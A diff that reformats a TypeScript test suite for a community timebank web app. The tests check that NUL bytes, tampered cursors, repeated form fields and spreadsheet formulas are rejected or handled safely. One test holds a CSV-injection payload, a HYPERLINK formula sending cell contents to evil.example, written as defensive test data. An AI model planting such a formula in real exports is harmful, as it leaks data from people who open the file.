@@ -37,11 +37,19 @@ function formsOn(page: string, html: string): Form[] {
         const name = field.getAttribute('name');
         if (!name) continue;
         const type = (field.getAttribute('type') ?? '').toLowerCase();
-        if (field.tagName === 'SELECT') fields.push([name, field.querySelector('option[selected]')?.getAttribute('value') ?? field.querySelector('option')?.getAttribute('value') ?? '']);
+        if (field.tagName === 'SELECT')
+          fields.push([
+            name,
+            field.querySelector('option[selected]')?.getAttribute('value') ??
+              field.querySelector('option')?.getAttribute('value') ??
+              '',
+          ]);
         else if (field.tagName === 'TEXTAREA') fields.push([name, field.textContent || 'Some words']);
         else if (type === 'checkbox' || type === 'radio') {
-          if (field.hasAttribute('checked') || !fields.some(([other]) => other === name)) fields.push([name, field.getAttribute('value') ?? 'on']);
-        } else if (type !== 'submit' && type !== 'button') fields.push([name, field.getAttribute('value') ?? (type === 'email' ? 'someone@example.org' : 'Some words')]);
+          if (field.hasAttribute('checked') || !fields.some(([other]) => other === name))
+            fields.push([name, field.getAttribute('value') ?? 'on']);
+        } else if (type !== 'submit' && type !== 'button')
+          fields.push([name, field.getAttribute('value') ?? (type === 'email' ? 'someone@example.org' : 'Some words')]);
       }
       return { page, action: action.host === 'localhost' ? `${action.pathname}${action.search}` : '', fields };
     })
@@ -58,20 +66,43 @@ describe('NUL characters', () => {
   it('in a JSON body, a query string or a path answer 400 with the field named, and change nothing', async () => {
     const token = await tokenFor('coordinator@alpha.test');
     const { alphaTimebankMemberId, alphaPersonId, alphaCategoryId } = given.fixture;
-    const countExchanges = async () => (await given.test.database.owner.execute<{ count: number }>(sql`select count(*)::int as count from timebank_exchanges`)).rows[0]?.count;
+    const countExchanges = async () =>
+      (
+        await given.test.database.owner.execute<{ count: number }>(
+          sql`select count(*)::int as count from timebank_exchanges`,
+        )
+      ).rows[0]?.count;
     const before = await countExchanges();
-    const exchange = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', { giver: alphaTimebankMemberId, receiver: alphaPersonId, minutes: 60, occurredOn: today(), categoryId: alphaCategoryId, note: 'Weeding\u0000' });
+    const exchange = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', {
+      giver: alphaTimebankMemberId,
+      receiver: alphaPersonId,
+      minutes: 60,
+      occurredOn: today(),
+      categoryId: alphaCategoryId,
+      note: 'Weeding\u0000',
+    });
     expect(exchange.statusCode).toBe(400);
-    expect(exchange.json()).toMatchObject({ code: 'validation-failed', errors: [{ field: 'note', code: 'errors.generic.nulByte' }] });
+    expect(exchange.json()).toMatchObject({
+      code: 'validation-failed',
+      errors: [{ field: 'note', code: 'errors.generic.nulByte' }],
+    });
     expect(await countExchanges()).toBe(before);
-    for (const url of ['/api/v1/communities/alpha/timebank/offers?q=cafe%00', '/api/v1/communities/alpha/people?search=Ada%00', '/api/v1/communities/alpha/referrals?search=%00']) {
+    for (const url of [
+      '/api/v1/communities/alpha/timebank/offers?q=cafe%00',
+      '/api/v1/communities/alpha/people?search=Ada%00',
+      '/api/v1/communities/alpha/referrals?search=%00',
+    ]) {
       expect((await call(token, 'GET', url.replace('%00', ''))).statusCode, `${url} without the NUL`).toBe(200);
       const response = await call(token, 'GET', url);
       expect(response.statusCode, url).toBe(400);
     }
     const coordinator = new Visitor(given.test.app);
     await coordinator.signIn('coordinator@alpha.test', fixturePassword);
-    for (const url of ['/c/alpha/timebank/posts?q=cafe%00', '/c/alpha/people?search=%00Ada', `/c/alpha/people/${alphaPersonId}%00`]) {
+    for (const url of [
+      '/c/alpha/timebank/posts?q=cafe%00',
+      '/c/alpha/people?search=%00Ada',
+      `/c/alpha/people/${alphaPersonId}%00`,
+    ]) {
       expect((await coordinator.get(url.replace('%00', ''))).statusCode, `${url} without the NUL`).toBe(200);
       const page = await coordinator.get(url);
       expect(page.statusCode, url).toBe(400);
@@ -99,7 +130,11 @@ describe('repeated fields', () => {
 describe('cursors', () => {
   it('an altered cursor on any list, page or API, is a 400 and never a 500', async () => {
     const token = await tokenFor('admin@alpha.test');
-    const [waiting] = await given.test.database.owner.select({ id: memberships.id }).from(memberships).where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested'))).limit(1);
+    const [waiting] = await given.test.database.owner
+      .select({ id: memberships.id })
+      .from(memberships)
+      .where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested')))
+      .limit(1);
     const values = pathValues(given.fixture, waiting?.id ?? '');
     const id = '00000000-0000-4000-8000-000000000000';
     const altered = [
@@ -118,18 +153,35 @@ describe('cursors', () => {
       [],
       'text',
     ].map((position) => Buffer.from(JSON.stringify(position)).toString('base64url'));
-    const lists = given.test.app.routeCatalogue.filter((route) => route.method === 'GET' && route.url.startsWith('/api/v1/') && JSON.stringify(route.schema?.querystring ? Object.keys((route.schema.querystring as { shape?: object }).shape ?? {}) : []).includes('cursor'));
+    const lists = given.test.app.routeCatalogue.filter(
+      (route) =>
+        route.method === 'GET' &&
+        route.url.startsWith('/api/v1/') &&
+        JSON.stringify(
+          route.schema?.querystring ? Object.keys((route.schema.querystring as { shape?: object }).shape ?? {}) : [],
+        ).includes('cursor'),
+    );
     expect(lists.length).toBeGreaterThan(8);
     const failures: string[] = [];
     for (const route of lists) {
       for (const cursor of [...altered, 'not base64 at all!', '%00']) {
-        const response = await call(token, 'GET', `${concretePath(route, values)}?cursor=${encodeURIComponent(cursor)}`);
+        const response = await call(
+          token,
+          'GET',
+          `${concretePath(route, values)}?cursor=${encodeURIComponent(cursor)}`,
+        );
         if (response.statusCode >= 500) failures.push(`${route.url} with ${cursor}: ${response.statusCode}`);
       }
     }
     const admin = new Visitor(given.test.app);
     await admin.signIn('admin@alpha.test', fixturePassword);
-    for (const page of ['/c/alpha/referrals', '/c/alpha/people', '/c/alpha/members', '/c/alpha/hub/caseload', '/c/alpha/timebank/posts']) {
+    for (const page of [
+      '/c/alpha/referrals',
+      '/c/alpha/people',
+      '/c/alpha/members',
+      '/c/alpha/hub/caseload',
+      '/c/alpha/timebank/posts',
+    ]) {
       for (const cursor of altered) {
         const response = await admin.get(`${page}?cursor=${cursor}`);
         if (response.statusCode >= 500) failures.push(`${page} with ${cursor}: ${response.statusCode}`);
@@ -147,7 +199,15 @@ describe('spreadsheet formulas', () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
     const token = await tokenFor('coordinator@alpha.test');
     const { alphaTimebankMemberId, alphaPersonId, alphaCategoryId } = given.fixture;
-    const recorded = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', { giver: alphaTimebankMemberId, receiver: alphaPersonId, minutes: 45, occurredOn: today(), categoryId: alphaCategoryId, note: formula, confirmNow: true });
+    const recorded = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', {
+      giver: alphaTimebankMemberId,
+      receiver: alphaPersonId,
+      minutes: 45,
+      occurredOn: today(),
+      categoryId: alphaCategoryId,
+      note: formula,
+      confirmNow: true,
+    });
     expect(recorded.statusCode).toBe(201);
     const coordinator = new Visitor(given.test.app);
     await coordinator.signIn('coordinator@alpha.test', fixturePassword);
@@ -162,9 +222,16 @@ describe('spreadsheet formulas', () => {
 
 describe('every form, sent back hostile', () => {
   it('as every role: a NUL in every field is a 400, a repeated field is never a 500', async () => {
-    const [waiting] = await given.test.database.owner.select({ id: memberships.id }).from(memberships).where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested'))).limit(1);
+    const [waiting] = await given.test.database.owner
+      .select({ id: memberships.id })
+      .from(memberships)
+      .where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested')))
+      .limit(1);
     const values = pathValues(given.fixture, waiting?.id ?? '');
-    const people = [...roles.map((role) => ({ email: given.fixture.emailFor(role), roles: [role], platformAdmin: false })), { email: given.fixture.platformAdmin, roles: [], platformAdmin: true }];
+    const people = [
+      ...roles.map((role) => ({ email: given.fixture.emailFor(role), roles: [role], platformAdmin: false })),
+      { email: given.fixture.platformAdmin, roles: [], platformAdmin: true },
+    ];
     const failures: string[] = [];
     let sent = 0;
     const seen = new Set<string>();
@@ -178,7 +245,13 @@ describe('every form, sent back hostile', () => {
           !route.url.startsWith('/fhir/') &&
           !route.url.includes('*') &&
           route.access &&
-          expected(route.access, { name: 'walker', email: person.email, roles: person.roles, inCommunity: !person.platformAdmin, platformAdmin: person.platformAdmin }) === 'allow',
+          expected(route.access, {
+            name: 'walker',
+            email: person.email,
+            roles: person.roles,
+            inCommunity: !person.platformAdmin,
+            platformAdmin: person.platformAdmin,
+          }) === 'allow',
       );
       const forms: Form[] = [];
       for (const route of pages) {
@@ -194,19 +267,32 @@ describe('every form, sent back hostile', () => {
       }
       // First what changes nothing (a NUL is refused before any work), then the repeats.
       for (const form of forms) {
-        const withNul = form.fields.map(([name, value]): [string, string] => (name === '_csrf' ? [name, value] : [name, `${value}\u0000`]));
+        const withNul = form.fields.map(([name, value]): [string, string] =>
+          name === '_csrf' ? [name, value] : [name, `${value}\u0000`],
+        );
         if (withNul.length === form.fields.filter(([name]) => name === '_csrf').length) continue;
         const response = await visitor.request('POST', form.action, { form: bodyOf(withNul) });
         sent += 1;
-        if (response.statusCode !== 400) failures.push(`NUL to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`);
+        if (response.statusCode !== 400)
+          failures.push(`NUL to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`);
       }
       for (const form of forms) {
         const repeatable = form.fields.filter(([name]) => name !== '_csrf' && name !== 'formKey');
         if (repeatable.length === 0) continue;
-        const doubled = form.fields.flatMap(([name, value]): [string, string][] => (name === '_csrf' || name === 'formKey' ? [[name, value]] : [[name, value], [name, `${value}-again`]]));
+        const doubled = form.fields.flatMap(([name, value]): [string, string][] =>
+          name === '_csrf' || name === 'formKey'
+            ? [[name, value]]
+            : [
+                [name, value],
+                [name, `${value}-again`],
+              ],
+        );
         const response = await visitor.request('POST', form.action, { form: bodyOf(doubled) });
         sent += 1;
-        if (response.statusCode >= 500) failures.push(`repeated fields to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`);
+        if (response.statusCode >= 500)
+          failures.push(
+            `repeated fields to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`,
+          );
       }
     }
     expect(failures).toEqual([]);
